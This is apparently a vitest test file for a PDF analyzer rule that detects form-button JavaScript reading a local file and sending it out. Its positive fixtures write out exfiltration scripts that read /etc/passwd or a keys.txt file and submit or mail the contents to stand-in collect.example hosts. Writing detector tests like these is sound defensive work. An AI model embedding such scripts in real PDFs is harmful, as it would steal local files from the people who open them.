// A script that reads a file it names by path and sends data out is reported whatever its trigger; an
// import button that lets the reader choose the file, and a script that only reads or only sends, are not.
import { describe, expect, it } from "vitest";
import { analyzeFast } from "../analyze";
import { PdfBuilder, hexString } from "../../pdf/testing/pdf-builder";

function fieldScript(js: string): Uint8Array {
  const b = new PdfBuilder();
  const field = b.add(
    `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (go) /Rect [72 500 200 530] /A << /S /JavaScript /JS ${hexString(js)} >> >>`,
  );
  b.addCatalog(`/AcroForm << /Fields [${field} 0 R] >>`, 1, `/Annots [${field} 0 R]`);
  return b.build();
}
const fired = (js: string) =>
  analyzeFast(fieldScript(js), { fileName: "f.pdf" }).findings.find(
    (f) => f.ruleId === "javascript-local-file-exfiltration",
  );

describe("javascript-local-file-exfiltration", () => {
  it.each([
    ['this.importTextData("/etc/passwd", 0); this.submitForm("https://collect.example/p");', "/etc/passwd"],
    [
      'var s = util.readFileIntoStream("C:\\\\Users\\\\Public\\\\keys.txt"); this.mailDoc({cTo: "x@collect.example"});',
      "Public\\\\keys.txt",
    ],
  ])("fires on a click that reads a named file and sends: %s", (js, path) => {
    expect(fired(js)?.evidence[0].excerpt).toContain(path);
  });

  it.each([
    [
      "an import button that lets the reader pick the file",
      'this.importTextData(); this.submitForm("https://forms.example/p");',
    ],
    ["a read without a send", 'this.importTextData("/etc/passwd", 0);'],
    ["a send without a read", 'this.submitForm("https://forms.example/p");'],
  ])("does not fire on %s", (_name, js) => {
    expect(fired(js)).toBeUndefined();
  });
});
